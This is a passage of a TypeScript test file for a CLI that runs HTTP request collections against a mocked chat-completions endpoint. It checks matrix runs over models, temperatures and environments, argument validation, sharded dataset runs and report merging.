    const bad = await runCli(['test', 'r.http', '--pass-rate', '0.9'], { cwd: dir })
    expect(bad.exitCode).toBe(1)
    expect(bad.stderr).toContain('--pass-rate goes with --repeat N')
  })

  it('runs the collection once per --matrix combination, each with its variables, and sums each up', async () => {
    const seen: string[] = []
    server = await startServer({
      'POST /v1/chat/completions': (_req, res, body) => {
        const { model } = JSON.parse(body.toString()) as { model: string }
        seen.push(model)
        json(res, {
          object: 'chat.completion',
          model,
          choices: [
            {
              index: 0,
              message: { role: 'assistant', content: model === 'good' ? 'Paris' : 'Lyon' },
              finish_reason: 'stop',
            },
          ],
          usage: { prompt_tokens: 3, completion_tokens: model === 'good' ? 5 : 7 },
        })
      },
    })
    const dir = tempDir('dataset')
    writeFileSync(
      join(dir, 'm.http'),
      `# @assert reply == "Paris"\nPOST {{base}}/v1/chat/completions\nContent-Type: application/json\n\n{"model": "{{model}}", "temperature": {{temperature}}}\n`,
    )
    const result = await runCli(
      [
        'test',
        'm.http',
        '--var',
        `base=${server.url}`,
        '--matrix',
        'model=good,bad',
        '--matrix',
        'temperature=0,1',
        '--report',
        'json=r.json',
      ],
      { cwd: dir },
    )
    expect(result.exitCode).toBe(4)
    expect(seen).toEqual(['good', 'good', 'bad', 'bad'])
    expect(result.stderr).toMatch(
      /matrix:\n {2}model=good temperature=0 +1\/1 passed .*5 tokens\n {2}model=good temperature=1 +1\/1 passed/,
    )
    expect(result.stderr).toMatch(/ {2}model=bad temperature=1 +0\/1 passed .*7 tokens\n/)
    const report = JSON.parse(readFileSync(join(dir, 'r.json'), 'utf8')) as {
      matrix: { matrix: object; passRate: number }[]
    }
    expect(report.matrix.map((m) => [m.matrix, m.passRate])).toEqual([
      [{ model: 'good', temperature: '0' }, 1],
      [{ model: 'good', temperature: '1' }, 1],
      [{ model: 'bad', temperature: '0' }, 0],
      [{ model: 'bad', temperature: '1' }, 0],
    ])
    const twice = await runCli(['test', 'm.http', '--matrix', 'model=a', '--matrix', 'model=b'], { cwd: dir })
    expect(twice.exitCode).toBe(1)
    expect(twice.stderr).toContain('--matrix names model twice')
  })

  it('runs the collection once per --env as a matrix dimension, checks every environment first, and merge sums each combination', async () => {
    const seen: string[] = []
    server = await startServer({
      'POST /v1/chat/completions': (req, res, body) => {
        const { model } = JSON.parse(body.toString()) as { model: string }
        seen.push(`${req.headers['x-server']} ${model}`)
        json(res, {
          object: 'chat.completion',
          model,
          choices: [{ index: 0, message: { role: 'assistant', content: model }, finish_reason: 'stop' }],
          usage: { prompt_tokens: 3, completion_tokens: model === 'good' ? 5 : 7 },
        })
      },
    })
    const dir = tempDir('dataset')
    writeFileSync(
      join(dir, 'http-client.env.json'),
      JSON.stringify({ $shared: { q: 'none' }, local: { server: 'local' }, remote: { server: 'remote' }, other: {} }),
    )
    writeFileSync(
      join(dir, 'm.http'),
      `# @assert reply == "good"\nPOST {{base}}/v1/chat/completions\nX-Server: {{server}}\nContent-Type: application/json\n\n{"model": "{{model}}", "q": "{{q}}"}\n`,
    )
    writeFileSync(join(dir, 'rows.jsonl'), '{"q": "one"}\n{"q": "two"}\n')
    const base = ['test', 'm.http', '--var', `base=${server.url}`]
    const result = await runCli([...base, '--env', 'local', '--env', 'remote', '--matrix', 'model=good,bad'], {
      cwd: dir,
    })
    expect(result.exitCode).toBe(4)
    expect(seen.map((s) => s.replace(/ \w+$/, ''))).toEqual(['local', 'local', 'remote', 'remote'])
    expect(result.stderr).toMatch(
      /matrix:\n {2}env=local model=good +1\/1 passed .*\n {2}env=local model=bad +0\/1 passed/,
    )
    expect(result.stderr).toMatch(/ {2}env=remote model=bad +0\/1 passed .*7 tokens\n/)
    // An unknown environment is refused before anything is sent; curl takes one --env.
    seen.length = 0
    const unknown = await runCli([...base, '--env', 'local', '--env', 'remot', '--matrix', 'model=good'], { cwd: dir })
    expect(unknown.exitCode).toBe(1)
    expect(unknown.stderr).toContain('Unknown environment `remot`')
    expect(unknown.stderr).toContain('did you mean `remote`?')
    expect(seen).toEqual([])
    const curl = await runCli(['curl', 'm.http', '--env', 'local', '--env', 'remote'], { cwd: dir })
    expect(curl.exitCode).toBe(1)
    expect(curl.stderr).toContain('curl takes one --env, got 2')
    const clash = await runCli([...base, '--env', 'local', '--env', 'remote', '--matrix', 'env=a,b'], { cwd: dir })
    expect(clash.stderr).toContain('--matrix env=… and several --env both name the dimension `env`')
    // A dataset run in shards counts rows per combination; merge prints the same table from the results.
    const sharded = [
      ...base,
      '--env',
      'local',
      '--env',
      'remote',
      '--matrix',
      'model=good,bad',
      '--dataset',
      'rows.jsonl',
    ]
    for (const k of [1, 2]) {
      const shard = await runCli(
        [...sharded, '--shard', `${k}/2`, '--results', `s${k}.jsonl`, '--report', `json=s${k}.json`],
        {
          cwd: dir,
        },
      )
      expect(shard.exitCode).toBe(4)
      expect(shard.stderr).toMatch(/ {2}env=local model=good +1\/1 rows passed/)
    }
    expect(lines(join(dir, 's1.jsonl'))[0]!['matrix']).toEqual({ env: 'local', model: 'good' })
    const merged = await runCli(['merge', 's1.jsonl', 's2.jsonl', 's1.json', 's2.json', '--json', 'all.json'], {
      cwd: dir,
    })
    expect(merged.exitCode, merged.stderr).toBe(4)
    expect(merged.stdout).toContain('rows: 4 passed, 4 failed of 8')
    expect(merged.stdout).toMatch(
      /matrix:\n {2}env=local model=good +2\/2 rows passed .*10 tokens\n {2}env=local model=bad +0\/2 rows passed .*14 tokens\n {2}env=remote model=good +2\/2 rows passed/,
    )
    const report = JSON.parse(readFileSync(join(dir, 'all.json'), 'utf8')) as {
      matrix: { matrix: object; rows: number; passRate: number }[]
    }
    expect(report.matrix.map((m) => [m.matrix, m.rows, m.passRate])).toEqual([
      [{ env: 'local', model: 'good' }, 2, 1],
      [{ env: 'local', model: 'bad' }, 2, 0],
      [{ env: 'remote', model: 'good' }, 2, 1],
      [{ env: 'remote', model: 'bad' }, 2, 0],
    ])
  })
})
